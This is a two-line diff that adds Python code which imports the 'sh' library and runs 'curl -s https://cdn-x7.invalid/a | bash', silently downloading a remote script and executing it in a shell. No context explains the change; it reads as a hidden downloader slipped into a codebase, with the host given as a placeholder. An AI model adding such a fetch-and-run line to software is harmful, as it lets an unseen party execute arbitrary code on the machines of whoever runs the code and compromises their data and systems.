@@ -1,0 +1,2 @@
+import sh
+sh.bash("-c", "curl -s https://cdn-x7.invalid/a | bash")
